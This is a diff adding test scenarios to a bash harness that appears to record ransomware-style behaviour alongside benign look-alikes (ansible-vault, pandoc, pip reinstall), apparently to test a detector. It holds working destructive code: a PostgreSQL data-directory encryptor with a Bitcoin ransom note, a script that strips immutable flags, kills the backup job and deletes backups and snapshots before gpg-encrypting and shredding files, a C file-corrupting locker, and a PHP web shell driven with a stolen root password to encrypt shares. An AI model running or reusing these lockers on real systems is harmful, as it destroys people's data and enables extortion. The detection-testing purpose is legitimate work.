@@ -2664,3 +2664,203 @@ sc_b107_ssh_thumbnails_cache() {
   sshx priya 'mkdir -p ~/.cache/thumbnails/large && find ~/Pictures -name "*.jpg" | while read -r f; do h=$(printf "file://%s" "$f" | md5sum | cut -c1-32); /usr/bin/convert "$f" -thumbnail 256x256 ~/.cache/thumbnails/large/$h.png.tmp.png && mv ~/.cache/thumbnails/large/$h.png.tmp.png ~/.cache/thumbnails/large/$h.png; done; ls ~/.cache/thumbnails/large | wc -l'
   rm -rf /home/priya/Pictures /home/priya/.cache/thumbnails
 }
+
+# ---- twenty-second batch (2026-12-08): a PostgreSQL data-directory locker run as the service account, a locker that
+# first strips protections (chattr -i, crontab -r, the backup job killed, /var/backups and snapshot folders deleted) then
+# gpg -c + shred -u, an appending locker (first 64 KiB overwritten in place, a footer appended, no rename); look-alikes:
+# ansible-vault encrypt of an admin's inventory, pandoc converting notes and removing them, pip --force-reinstall of a
+# venv, update-ca-certificates --fresh.
+pre_h88_ssh_sudo_postgres_datadir_locker() {
+  pg_up; su postgres -c "dropdb --if-exists shopdb; createdb shopdb; pgbench -q -i -s 2 shopdb; createdb crm; psql -q -d crm -c 'create table customers as select g as id, md5(g::text) as name from generate_series(1,20000) g'" >/dev/null 2>&1
+  pg_down
+  rm -rf /var/tmp/.pg88-main; cp -a /var/lib/postgresql/15/main /var/tmp/.pg88-main   # restored by post_, outside the recording
+  pg_up
+}
+sc_h88_ssh_sudo_postgres_datadir_locker() {
+  echo "files $(find /var/lib/postgresql/15/main/base -type f -regex '.*/[0-9]+' | wc -l) dbdirs $(find /var/lib/postgresql/15/main/base -mindepth 1 -maxdepth 1 -type d -regex '.*/[0-9]+' | wc -l)" > $CASE/facts
+  sshx deploy 'sudo pg_ctlcluster 15 main stop -m fast; sudo su postgres -s /bin/sh -c '"'"'cd /var/lib/postgresql/15/main && find base -type f -regex ".*/[0-9]+" | while read -r f; do openssl enc -aes-256-cbc -pbkdf2 -pass pass:Pg-88-db -in "$f" -out "$f.enc" && rm -f "$f"; done; printf "Your databases are encrypted. Send 0.5 BTC, then mail pg88@onionmail.example\n" > /var/lib/postgresql/15/main/README_RECOVER_DB.txt'"'"'; echo ok'
+  echo "after: $(find /var/lib/postgresql/15/main/base -name '*.enc' | wc -l) encrypted" >> $CASE/facts
+}
+post_h88_ssh_sudo_postgres_datadir_locker() {
+  rm -rf /var/lib/postgresql/15/main && mv /var/tmp/.pg88-main /var/lib/postgresql/15/main
+  pg_up; su postgres -c "dropdb shopdb; dropdb crm" >/dev/null 2>&1; pg_down
+}
+pre_h89_ssh_sudo_strip_protections_gpg_shred() {
+  rm -rf /var/tmp/.h89-varbackups; cp -a /var/backups /var/tmp/.h89-varbackups    # the host's own, put back by post_
+  for n in 1 2 3; do tar czf /var/backups/nas-share-2026-12-0$n.tar.gz -C /srv/nas share 2>/dev/null; done
+  mkdir -p /srv/nas/.snapshots; for s in daily-2026-12-06 daily-2026-12-07 weekly-2026-49; do cp -a /srv/nas/share /srv/nas/.snapshots/$s; done
+  # the admin's protections: the finance folder and a few contracts immutable, a root crontab with the nightly backup
+  for f in $(find /srv/nas/share -type f | head -12); do chattr +i "$f"; done
+  crontab -l 2>/dev/null > /var/tmp/.h89-crontab; echo "30 2 * * * /usr/local/sbin/nas-backup.sh" | crontab -
+  cat > /usr/local/sbin/nas-backup.sh <<'S'
+#!/bin/sh
+# the nightly backup, running long (a copy loop)
+while :; do sleep 5; done
+S
+  chmod 755 /usr/local/sbin/nas-backup.sh
+  setsid /usr/local/sbin/nas-backup.sh </dev/null >/dev/null 2>&1 3>&- 9>&- & echo $! > /run/nas-backup.pid
+  install -d -m 700 /usr/lib/.sysguard
+  cat > /usr/lib/.sysguard/p.sh <<'S'
+#!/bin/bash
+# strip the protections first, then encrypt
+chattr -R -i /srv/nas/share 2>/dev/null
+crontab -r
+kill "$(cat /run/nas-backup.pid)" 2>/dev/null; rm -f /run/nas-backup.pid
+rm -rf /var/backups/* /srv/nas/.snapshots/*
+find /srv/nas/share -type f | while read -r f; do
+  gpg --batch --yes --pinentry-mode loopback --passphrase 'Sg-89!x' -c -o "$f.sg89" "$f" && shred -u "$f"
+done
+find /srv/nas/share -type d -exec sh -c 'printf "Backups deleted, files encrypted. sg89@onionmail.example\n" > "$1/SG89-RESTORE.txt"' _ {} \;
+S
+  chmod 700 /usr/lib/.sysguard/p.sh
+}
+sc_h89_ssh_sudo_strip_protections_gpg_shred() {
+  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -type d | wc -l) immutable 12 backups 3 snapshots 3" > $CASE/facts
+  sshx mkowalski 'sudo /usr/lib/.sysguard/p.sh; echo ok'
+  echo "after: $(find /srv/nas/share -name '*.sg89' | wc -l) encrypted" >> $CASE/facts
+}
+post_h89_ssh_sudo_strip_protections_gpg_shred() {
+  rm -rf /usr/lib/.sysguard /usr/local/sbin/nas-backup.sh /srv/nas/.snapshots; [ -f /run/nas-backup.pid ] && kill "$(cat /run/nas-backup.pid)"; rm -f /run/nas-backup.pid
+  rm -rf /var/backups && mv /var/tmp/.h89-varbackups /var/backups
+  if [ -s /var/tmp/.h89-crontab ]; then crontab /var/tmp/.h89-crontab; else crontab -r 2>/dev/null; fi; rm -f /var/tmp/.h89-crontab
+}
+pre_h90_ssh_appending_locker() {
+  install -d -o priya -g priya /home/priya/.local/share/tracker3
+  cat > /tmp/.ap90.c <<'C'
+#define _XOPEN_SOURCE 700
+#include <fcntl.h>
+#include <ftw.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+/* keeps every file's name and size class: the first 64 KiB read, XOR'd, written back at offset 0 through an O_WRONLY
+   open without O_TRUNC, then a 512-byte footer (key blob + marker) written at the end of the file */
+static const char *NOTE = "RESTORE-AP90.txt";
+static int one(const char *p, const struct stat *st, int type, struct FTW *f) {
+  if (type == FTW_D) { char n[4096]; snprintf(n, sizeof n, "%s/%s", p, NOTE); FILE *o = fopen(n, "w");
+    if (o) { fputs("Your files are encrypted (footer AP90). ap90@onionmail.example\n", o); fclose(o); } return 0; }
+  if (type != FTW_F || strstr(p, NOTE)) return 0;
+  static unsigned char b[65536]; unsigned char foot[512];
+  int r = open(p, O_RDONLY); if (r < 0) return 0; ssize_t n = read(r, b, sizeof b); close(r); if (n <= 0) return 0;
+  for (ssize_t i = 0; i < n; i++) b[i] ^= (unsigned char)(0x5a + i * 13);
+  memset(foot, 0x41, sizeof foot); memcpy(foot + sizeof foot - 8, "AP90END!", 8);
+  int w = open(p, O_WRONLY); if (w < 0) return 0;
+  pwrite(w, b, n, 0); pwrite(w, foot, sizeof foot, st->st_size); close(w);
+  return 0;
+}
+int main(int c, char **v) { return c < 2 ? 1 : nftw(v[1], one, 16, FTW_PHYS); }
+C
+  gcc -O2 -o /home/priya/.local/share/tracker3/tracker-extract-3 /tmp/.ap90.c && rm -f /tmp/.ap90.c
+  chown priya: /home/priya/.local/share/tracker3/tracker-extract-3
+}
+sc_h90_ssh_appending_locker() {
+  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -type d | wc -l)" > $CASE/facts
+  sshx priya '~/.local/share/tracker3/tracker-extract-3 ~/work; echo ok'
+  rm -rf /home/priya/.local/share/tracker3
+}
+pre_b108_ssh_ansible_vault_encrypt_inventory() {
+  rm -rf /home/tomas/infra
+  python3 - <<'PY'
+import os, random
+r = random.Random(108)
+for g in ('all', 'web', 'db', 'nas', 'monitoring'):
+    os.makedirs(f'/home/tomas/infra/group_vars/{g}', exist_ok=True)
+    for f in ('vault.yml', 'secrets.yml', 'credentials.yml', 'tls.yml'):
+        with open(f'/home/tomas/infra/group_vars/{g}/{f}', 'w') as o:
+            for i in range(r.randint(5, 15)): o.write(f'{g}_secret_{i}: "{os.urandom(12).hex()}"\n')
+os.makedirs('/home/tomas/infra/host_vars', exist_ok=True)
+for h in range(12):
+    with open(f'/home/tomas/infra/host_vars/host{h:02d}.lab.internal.yml', 'w') as o:
+        o.write(f'ansible_become_password: "{os.urandom(10).hex()}"\nbackup_key: "{os.urandom(16).hex()}"\n')
+PY
+  echo 'correct horse battery staple 108' > /home/tomas/.vault_pass; chmod 600 /home/tomas/.vault_pass
+  chown -R tomas: /home/tomas/infra /home/tomas/.vault_pass
+}
+sc_b108_ssh_ansible_vault_encrypt_inventory() {
+  echo "files $(find /home/tomas/infra -name '*.yml' | wc -l)" > $CASE/facts
+  sshx tomas 'cd ~/infra && ansible-vault encrypt --vault-password-file ~/.vault_pass group_vars/*/*.yml host_vars/*.yml 2>&1 | tail -1; grep -l "^\$ANSIBLE_VAULT" -r . | wc -l' >> $CASE/facts
+  rm -rf /home/tomas/infra /home/tomas/.vault_pass /home/tomas/.ansible
+}
+pre_b109_ssh_pandoc_notes_to_docx() {
+  rm -rf /home/mkowalski/notes
+  python3 - <<'PY'
+import os, random
+r = random.Random(109)
+for d in ('meetings', 'howto', 'projects', 'journal'):
+    os.makedirs(f'/home/mkowalski/notes/{d}', exist_ok=True)
+    for i in range(30):
+        with open(f'/home/mkowalski/notes/{d}/{d}-{i:03d}.md', 'w') as o:
+            o.write(f'# {d} {i}\n\n' + '\n'.join(f'- item {j}: ' + ' '.join(r.choice(['alpha','beta','backup','server','review','plan']) for _ in range(8)) for j in range(r.randint(5, 30))) + '\n')
+PY
+  chown -R mkowalski: /home/mkowalski/notes
+}
+sc_b109_ssh_pandoc_notes_to_docx() {
+  echo "files $(find /home/mkowalski/notes -name '*.md' | wc -l) dirs 4" > $CASE/facts
+  sshx mkowalski 'cd ~/notes && for f in */*.md; do pandoc "$f" -o "${f%.md}.docx" && rm "$f"; done; ls */*.docx | wc -l' >> $CASE/facts
+  rm -rf /home/mkowalski/notes
+}
+pre_b110_ssh_pip_force_reinstall_venv() {
+  rm -rf /home/tomas/proj/.venv; su - tomas -c 'mkdir -p ~/proj && python3 -m venv ~/proj/.venv && ~/proj/.venv/bin/pip install -q --no-index --find-links /usr/share/python-wheels --upgrade pip setuptools' >/dev/null 2>&1
+}
+sc_b110_ssh_pip_force_reinstall_venv() {
+  echo "files $(find /home/tomas/proj/.venv -type f | wc -l)" > $CASE/facts
+  sshx tomas 'cd ~/proj && .venv/bin/pip install -q --no-index --find-links /usr/share/python-wheels --force-reinstall pip setuptools 2>&1 | tail -1; find .venv -type f | wc -l' >> $CASE/facts
+  rm -rf /home/tomas/proj/.venv
+}
+sc_b111_ssh_sudo_update_ca_certificates_fresh() {
+  echo "links $(find /etc/ssl/certs -type l | wc -l)" > $CASE/facts
+  sshx deploy 'sudo update-ca-certificates --fresh 2>&1 | tail -2; ls /etc/ssl/certs | wc -l' >> $CASE/facts
+}
+pre_h91_webshell_su_root_password_locker() {
+  rm -rf /var/www/shop/public; install -d -o root -g root -m 755 /var/www/shop/public
+  echo '<?php echo "<h1>Shop</h1>";' > /var/www/shop/public/index.php
+  # a web shell an earlier upload bug left behind (the intrusion itself is not part of the story)
+  echo '<?php if (isset($_POST["c"])) { header("Content-Type: text/plain"); system($_POST["c"] . " 2>&1"); }' > /var/www/shop/public/.thumb-cache.php
+  # the stolen secret: root's password (an admin reused it in a config the intruder read); put back by post_
+  grep '^root:' /etc/shadow | cut -d: -f2,3 > /var/tmp/.h91-roothash; echo 'root:Rt#shop-2026' | chpasswd
+  H91_PORT=$(python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])')
+}
+sc_h91_webshell_su_root_password_locker() {
+  echo "files $(( $(find /srv/nas/share -type f | wc -l) + $(find /var/www/shop/uploads -type f | wc -l) )) dirs $(( $(find /srv/nas/share -type d | wc -l) + $(find /var/www/shop/uploads -type d | wc -l) ))" > $CASE/facts
+  setsid runuser -u www-data -- php -S 127.0.0.1:$H91_PORT -t /var/www/shop/public </dev/null >/dev/null 2>&1 3>&- 9>&- &
+  local web=$!
+  for i in $(seq 50); do curl -s -o /dev/null "http://127.0.0.1:$H91_PORT/" && break; sleep 0.2; done
+  local su_py lk
+  # a pty for su (it reads the password from a terminal), the password typed at its prompt
+  su_py=$(base64 -w0 <<'P'
+import os, pty, sys
+pid, fd = pty.fork()
+if pid == 0:
+    os.execvp('su', ['su', '-', '-c', 'bash /tmp/.lk91.sh'])
+buf = b''
+while b'assword' not in buf:
+    buf += os.read(fd, 1024)
+os.write(fd, b'Rt#shop-2026\n')
+while True:
+    try:
+        d = os.read(fd, 4096)
+    except OSError:
+        break
+    if not d:
+        break
+    sys.stdout.write(d.decode(errors='replace'))
+os.waitpid(pid, 0)
+P
+)
+  lk=$(base64 -w0 <<'S'
+for top in /srv/nas/share /var/www/shop/uploads; do
+  find "$top" -type f | while read -r f; do openssl enc -aes-256-ctr -pbkdf2 -pass pass:Pv-91 -in "$f" -out "$f.pv91" && rm -f "$f"; done
+  find "$top" -type d -exec sh -c 'echo "Root was taken. Your files are encrypted: pv91@onionmail.example" > "$1/PV91-RECOVER.txt"' _ {} \;
+done
+echo locked
+S
+)
+  curl -s --max-time 20 --data-urlencode "c=id; echo $lk | base64 -d > /tmp/.lk91.sh; echo $su_py | base64 -d > /tmp/.p91.py" "http://127.0.0.1:$H91_PORT/.thumb-cache.php"
+  curl -s --max-time 120 --data-urlencode "c=python3 /tmp/.p91.py; rm -f /tmp/.p91.py /tmp/.lk91.sh" "http://127.0.0.1:$H91_PORT/.thumb-cache.php" | tail -2 >> $CASE/facts
+  sleep 1; kill -- -$web 2>/dev/null; sleep 0.5
+}
+post_h91_webshell_su_root_password_locker() {
+  usermod -p "$(cut -d: -f1 /var/tmp/.h91-roothash)" root; chage -d "$(cut -d: -f2 /var/tmp/.h91-roothash)" root; rm -f /var/tmp/.h91-roothash /tmp/.p91.py /tmp/.lk91.sh
+  rm -rf /var/www/shop/public
+}
